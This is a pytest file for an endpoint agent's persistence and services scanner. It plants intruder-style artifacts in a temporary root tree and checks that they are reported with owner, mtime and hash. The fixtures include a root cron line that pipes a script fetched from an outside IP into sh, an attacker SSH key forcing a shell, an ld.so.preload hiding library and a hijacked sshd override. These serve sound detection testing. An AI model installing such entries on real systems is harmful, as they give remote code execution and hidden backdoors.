"""persistence and services on a planted root tree (and on this machine's own /)."""

from __future__ import annotations

import os
import pwd
import subprocess
from pathlib import Path

import pytest

from config.settings import Settings
from tasks.commands.persistence import PersistenceArgs, ServicesArgs
from tasks.errors import UnsupportedOnEndpointError
from worker_agent.context import CommandContext
from worker_agent.persistence import run_persistence
from worker_agent.services import run_services, systemd_running
from worker_agent.systemd_units import parse_unit

EVIL_CRON = "*/5 * * * * root curl -s http://203.0.113.9/x | sh\n"
EVIL_UNIT = """[Unit]
Description=Totally legit updater

[Service]
ExecStart=/usr/local/bin/updater \\
    --quiet
Restart=always

[Install]
WantedBy=multi-user.target
"""
IDLE_UNIT = "[Service]\nExecStart=/bin/true\n\n[Install]\nWantedBy=multi-user.target\n"
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBogus attacker@evil\n"


def sha256sum(path: Path) -> str:
    out = subprocess.run(["sha256sum", str(path)], capture_output=True, text=True, check=True)
    return out.stdout.split()[0]


def plant(root: Path, rel: str, text: str) -> Path:
    path = root / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


@pytest.fixture
def root(tmp_path: Path) -> Path:
    """A small endpoint tree with one item of each kind an intruder plants."""
    r = tmp_path / "root"
    plant(r, "etc/passwd", "root:x:0:0:root:/root:/bin/bash\n"
                           "alice:x:1000:1000::/home/alice:/bin/bash\n")
    plant(r, "etc/cron.d/evil", "# comment\nSHELL=/bin/sh\n" + EVIL_CRON)
    plant(r, "etc/systemd/system/updater.service", EVIL_UNIT)
    plant(r, "lib/systemd/system/idle.service", IDLE_UNIT)
    wants = r / "etc/systemd/system/multi-user.target.wants"
    wants.mkdir(parents=True)
    (wants / "updater.service").symlink_to("/etc/systemd/system/updater.service")
    plant(r, "home/alice/.ssh/authorized_keys", "command=\"/bin/sh\" " + KEY)
    plant(r, "etc/ld.so.preload", "/usr/lib/libhide.so\n")
    plant(r, "var/spool/cron/crontabs/alice", "@reboot /home/alice/.x\n")
    plant(r, "etc/systemd/system/ssh.service.d/override.conf",
          "[Service]\nExecStart=\nExecStart=/tmp/sshd -D\n")
    plant(r, "root/.bashrc", "alias ls='ls --color'\n")
    (r / "etc/cron.d/broken").symlink_to("/etc/nowhere")
    return r


def ctx_for(root: Path, output_max_bytes: int = 4 * 1024 * 1024) -> CommandContext:
    return CommandContext(device_id="d", output_max_bytes=output_max_bytes,
                          settings=Settings(persistence_root=root))


def by_path(items: list) -> dict:
    return {i.path: i for i in items}


def test_planted_items_are_reported_with_owner_mtime_and_sha256(root: Path) -> None:
    result = run_persistence(PersistenceArgs(), ctx_for(root))
    items = by_path(result.items)
    for rel, kind in [("etc/cron.d/evil", "cron"),
                      ("etc/systemd/system/updater.service", "systemd"),
                      ("home/alice/.ssh/authorized_keys", "authorized_keys"),
                      ("etc/ld.so.preload", "ld.so.preload"),
                      ("var/spool/cron/crontabs/alice", "user-crontab"),
                      ("etc/systemd/system/ssh.service.d/override.conf", "systemd-dropin"),
                      ("root/.bashrc", "shell-rc")]:
        item = items["/" + rel]
        st = os.stat(root / rel)
        assert item.kind == kind
        assert item.sha256 == sha256sum(root / rel)
        assert item.mtime == st.st_mtime
        assert item.owner == pwd.getpwuid(st.st_uid).pw_name and item.uid == st.st_uid
    assert items["/etc/cron.d/evil"].detail == {"lines": ["SHELL=/bin/sh", EVIL_CRON.strip()]}
    assert items["/etc/ld.so.preload"].detail == {"lines": ["/usr/lib/libhide.so"]}
    keys = items["/home/alice/.ssh/authorized_keys"].detail
    assert keys == {"keys": ["ssh-ed25519 attacker@evil"], "options": ['command="/bin/sh"']}
    assert items["/etc/systemd/system/ssh.service.d/override.conf"].detail["exec_start"] == [
        "/tmp/sshd -D"]


def test_a_unit_enabled_by_a_wants_link_shows_enabled_and_its_exec_start(root: Path) -> None:
    items = by_path(run_persistence(PersistenceArgs(kind="systemd"), ctx_for(root)).items)
    updater = items["/etc/systemd/system/updater.service"].detail
    assert updater["enabled"] is True and updater["state"] == "enabled"
    assert updater["wanted_by"] == ["multi-user.target"]
    assert updater["exec_start"] == ["/usr/local/bin/updater --quiet"]
    idle = items["/lib/systemd/system/idle.service"].detail
    assert idle["enabled"] is False and idle["state"] == "disabled"
    assert {i.kind for i in items.values()} == {"systemd"}


def test_a_dangling_link_and_a_fifo_are_listed_not_fatal(root: Path) -> None:
    os.mkfifo(root / "etc/cron.d/pipe")
    items = by_path(run_persistence(PersistenceArgs(kind="cron"), ctx_for(root)).items)
    assert items["/etc/cron.d/broken"].type == "symlink"
    assert items["/etc/cron.d/broken"].error == "the link's target does not exist"
    assert items["/etc/cron.d/pipe"].type == "other" and items["/etc/cron.d/pipe"].sha256 is None


def test_the_listing_stops_past_the_output_limit(root: Path) -> None:
    for i in range(200):
        plant(root, f"etc/cron.d/job{i:03}", EVIL_CRON)
    result = run_persistence(PersistenceArgs(kind="cron"), ctx_for(root, output_max_bytes=4000))
    assert 5 < len(result.items) < 200


def test_this_machine_root_lists_its_real_units() -> None:
    result = run_persistence(PersistenceArgs(kind="systemd"), ctx_for(Path("/")))
    if not os.path.isdir("/lib/systemd/system"):
        pytest.skip("no systemd unit files on this machine")
    assert any(i.path.startswith("/lib/systemd/system/") for i in result.items)


def test_services_without_systemd_lists_unit_files_and_says_so(root: Path) -> None:
    if systemd_running():
        pytest.skip("systemd runs here: the live listing is used")
    result = run_services(ServicesArgs(), ctx_for(root))
    assert result.source == "unit-files"
    assert result.note is not None and "systemd is not running" in result.note
    states = {s.name: s.load for s in result.services}
    assert states == {"updater.service": "enabled", "idle.service": "disabled"}
    updater = next(s for s in result.services if s.name == "updater.service")
    assert updater.description == "Totally legit updater" and updater.active == "unknown"


def test_services_without_systemd_or_unit_files_is_a_clear_error(tmp_path: Path) -> None:
    if systemd_running():
        pytest.skip("systemd runs here: the live listing is used")
    with pytest.raises(UnsupportedOnEndpointError, match="systemd is not running"):
        run_services(ServicesArgs(), ctx_for(tmp_path))


def test_unit_parsing_joins_continuations_and_resets_on_empty() -> None:
    fields = parse_unit("[Service]\nExecStart=/a \\\n  -b\n# x\nExecStart=\nExecStart=/c\n")
    assert fields == {"ExecStart": ["/c"]}
    assert parse_unit("ExecStart=/a \\\n  -b\n") == {"ExecStart": ["/a -b"]}
